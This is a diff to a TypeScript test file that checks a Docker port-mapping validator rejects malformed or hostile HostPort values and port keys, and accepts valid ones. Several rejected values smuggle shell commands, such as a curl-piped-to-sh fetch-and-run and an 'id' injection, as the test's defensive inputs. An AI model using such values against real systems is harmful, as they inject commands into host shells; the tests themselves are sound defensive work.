@@ -27,8 +27,27 @@ const broken: [string, (g: any) => unknown][] = [
   ['no NetworkSettings', (g) => ({ ...g, NetworkSettings: undefined })],
   ['Ports a list', (g) => ({ ...g, NetworkSettings: { Ports: [] } })],
   ['a port binding not a list', (g) => ({ ...g, NetworkSettings: { Ports: { '80/tcp': 'x' } } })],
-  ['a HostPort number', (g) => ({ ...g, NetworkSettings: { Ports: { '80/tcp': [{ HostPort: 8080 }] } } })]
+  ['a HostPort number', (g) => ({ ...g, NetworkSettings: { Ports: { '80/tcp': [{ HostPort: 8080 }] } } })],
+  // Ports reach job.services.<id>.ports, which a services-only job's steps put in commands on the runner host.
+  ...(['3306$(curl -s x|sh)', '5432;id', '5432\n', ' 5432', '+5432', '05432', '0', '65536', '99999', '1e3', '5432.0'].map((p) => [
+    `a HostPort ${JSON.stringify(p)}`,
+    (g: any) => ({ ...g, NetworkSettings: { Ports: { '80/tcp': [{ HostIp: '0.0.0.0', HostPort: p }] } } })
+  ]) as [string, (g: any) => unknown][]),
+  ...(['x/tcp', '80', '80/tcp/x', '80/icmp', '$(id)/tcp', '65536/tcp', '0/udp'].map((k) => [
+    `a port key ${JSON.stringify(k)}`,
+    (g: any) => ({ ...g, NetworkSettings: { Ports: { [k]: [{ HostIp: '0.0.0.0', HostPort: '32768' }] } } })
+  ]) as [string, (g: any) => unknown][])
 ]
+
+test("controls: the ports docker writes pass (every protocol, the range's ends, a binding without a port)", () => {
+  const ports = {
+    '1/tcp': [{ HostIp: '0.0.0.0', HostPort: '65535' }],
+    '65535/udp': [{ HostIp: '::', HostPort: '1' }],
+    '9/sctp': [{ HostIp: '', HostPort: '' }],
+    '10/tcp': null
+  }
+  expect(portMap(inspectShape({ ...good(), NetworkSettings: { Ports: ports } }))).toEqual({ '1': '65535', '65535': '1' })
+})
 
 test.each(broken)('%s is an UnexpectedAnswer', (_name, make) => {
   expect(() => inspectShape(make(good()))).toThrow(UnexpectedAnswer)
